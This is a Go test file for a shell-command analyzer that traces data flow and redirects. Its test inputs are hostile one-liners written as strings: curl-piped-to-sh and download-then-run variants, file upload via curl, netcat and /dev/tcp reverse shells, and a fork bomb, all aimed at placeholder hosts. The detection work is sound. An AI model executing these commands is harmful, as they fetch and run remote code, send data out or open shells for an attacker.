package shellcommand

import (
	"testing"

	"github.com/stretchr/testify/require"
)

func TestEdges(t *testing.T) {
	for _, c := range []struct {
		line, from, to string
		kind           EdgeKind
	}{
		{`curl x | sh`, "curl x", "sh", EdgePipe},
		{`curl x |& sh`, "curl x", "sh", EdgePipe},
		{`curl x | tee f | sh`, "tee f", "sh", EdgePipe},
		{`curl x | (cd /; sh)`, "curl x", "sh", EdgePipe},
		{`{ curl x; } | { sh; }`, "curl x", "sh", EdgePipe},
		{`f(){ curl x; }; f | sh`, "curl x", "sh", EdgePipe},
		{`sh <(curl x)`, "curl x", "sh /dev/fd/63", EdgeProcess},
		{`sh < <(curl x)`, "curl x", "sh", EdgeProcess},
		{`curl x > >(sh)`, "curl x", "sh", EdgeProcess},
		{`curl x | tee >(sh)`, "curl x", "sh", EdgePipe},
		{`sh -c "$(curl x)"`, "curl x", "sh -c …", EdgeArgument},
		{"sh -c \"`curl x`\"", "curl x", "sh -c …", EdgeArgument},
		{`C=$(curl x); sh -c "$C"`, "curl x", "sh -c …", EdgeVariable},
		{`C=$(curl x); D=$C; eval "$D"`, "curl x", "eval …", EdgeVariable},
		{`curl x | while read l; do eval "$l"; done`, "curl x", "eval …", EdgeVariable},
		{`curl x | xargs sh -c`, "curl x", "sh -c …", EdgeArgument},
		{`sh <<< "$(curl x)"`, "curl x", "sh", EdgePipe},
		{`exec 3< <(curl x); sh <&3`, "curl x", "sh", EdgeProcess},
		{`exec 3< <(curl x); sh /dev/fd/3`, "curl x", "sh /dev/fd/3", EdgeProcess},
		{`curl -o f x; sh f`, "curl -o f x", "sh f", EdgeFile},
		{`curl -of x; sh f`, "curl -of x", "sh f", EdgeFile},
		{`curl x > f; sh f`, "curl x", "sh f", EdgeFile},
		{`curl x > f; sh < f`, "curl x", "sh", EdgeFile},
		{`curl x > f; . ./f`, "curl x", ". ./f", EdgeFile},
		{`curl x > f; chmod +x f; ./f`, "curl x", "f", EdgeFile},
		{`wget https://h/f.sh; sh f.sh`, "wget https://h/f.sh", "sh f.sh", EdgeFile},
		{`curl -O https://h/f.sh && bash ./f.sh`, "curl -O https://h/f.sh", "bash ./f.sh", EdgeFile},
		{`cat k > f; curl -d @f h`, "cat k", "curl -d @f h", EdgeFile},
		{`cat k > f; curl --upload-file=f h`, "cat k", "curl --upload-file=f h", EdgeFile},
		{`tar cf a.tgz d; curl -T a.tgz h`, "tar cf a.tgz d", "curl -T a.tgz h", EdgeFile},
		{`mkfifo p; nc h 1 < p | sh > p`, "sh", "nc h 1", EdgeFile},
		{`coproc curl x; sh <&${COPROC[0]}`, "curl x", "sh", EdgePipe},
	} {
		t.Run(c.line, func(t *testing.T) {
			a := Analyze(c.line, here)
			consistent(t, a)
			require.Contains(t, kinds(t, a, c.from, c.to), c.kind, "%v in %q", a.Edges, all(a))
		})
	}
}

func TestNoEdges(t *testing.T) {
	for _, line := range []string{"curl x; sh f", "curl x && sh f", "curl x > f; sh g", "curl x >/dev/null; sh f"} {
		require.Empty(t, Analyze(line, here).Edges, line)
	}
	// What goes into a file does not go into the pipe.
	require.Empty(t, Analyze("curl x > f | sh", here).Edges)
}

func TestRedirects(t *testing.T) {
	red := func(fd int, op, path string) Redirect {
		return Redirect{FD: fd, Op: op, Path: Word{Value: path, Known: true}}
	}
	tcp := "/dev/tcp/h/1"
	for _, c := range []struct {
		line, command string
		want          Redirect
	}{
		{"cat x > f", "cat x", red(1, ">", "f")},
		{"cat x >> ~/f", "cat x", red(1, ">>", "/home/u/f")},
		{"cat 2> f x", "cat x", red(2, ">", "f")},
		{"cat < f", "cat", red(0, "<", "f")},
		{"cat <> f", "cat", red(0, "<>", "f")},
		{"cat x &> f", "cat x", red(1, "&>", "f")},
		{"cat x >& f", "cat x", red(1, "&>", "f")},
		{"cat x >| f", "cat x", red(1, ">|", "f")},
		{"{ cat x; } > f", "cat x", red(1, ">", "f")},
		{"for i in 1; do cat x; done > f", "cat x", red(1, ">", "f")},
		{"f(){ cat x; } >f; f", "cat x", red(1, ">", "f")},
		{"exec 3<>/dev/tcp/h/1; cat <&3", "cat", red(0, "<", tcp)},
		{"exec 3>/dev/tcp/h/1; cat x >&3", "cat x", red(1, ">", tcp)},
		{"exec {s}>/dev/tcp/h/1; exec {c}>&$s-; cat x >&$c", "cat x", red(1, ">", tcp)},
		{"if y; then exec 3>/dev/tcp/h/1; fi; cat x >&3", "cat x", red(1, ">", tcp)},
		{": {s}>/dev/tcp/h/1; cat x >&$s", "cat x", red(1, ">", tcp)},
		{"exec >/dev/tcp/h/1; cat x", "cat x", red(1, ">", tcp)},
		{"bash -i >& /dev/tcp/h/1 0>&1", "bash -i", red(0, "<", tcp)},
		{"bash -i &>/dev/tcp/h/1 <&1", "bash -i", red(0, "<", tcp)},
		{"h=h; p=1; cat x > /dev/tcp/$h/$p", "cat x", red(1, ">", tcp)},
		{"0<&196;exec 196<>/dev/tcp/h/1; sh <&196 >&196 2>&196", "sh", red(0, "<", tcp)},
	} {
		require.Contains(t, find(t, Analyze(c.line, here), c.command).Redirects, c.want, c.line)
	}
	require.Equal(t, []Redirect{red(1, ">", "f")}, Analyze("> f", here).Commands[0].Redirects)
}

func TestForkBomb(t *testing.T) {
	a := Analyze(":(){ :|:& };:", here)
	require.NotEmpty(t, a.Edges)
	require.Contains(t, a.Commands[0].Via, ViaFunction)
	require.True(t, a.Commands[0].Background)
}
